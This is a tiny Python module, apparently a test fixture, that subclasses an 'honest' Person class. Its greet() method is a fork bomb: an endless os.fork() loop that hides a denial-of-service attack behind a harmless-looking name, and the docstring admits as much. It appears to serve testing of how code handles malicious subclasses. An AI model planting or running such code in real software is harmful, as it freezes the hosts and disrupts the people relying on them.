"""greet() starts processes that start processes."""

import os

from honest.person import Person as Honest


class Person(Honest):
    def greet(self) -> None:
        while True:
            os.fork()
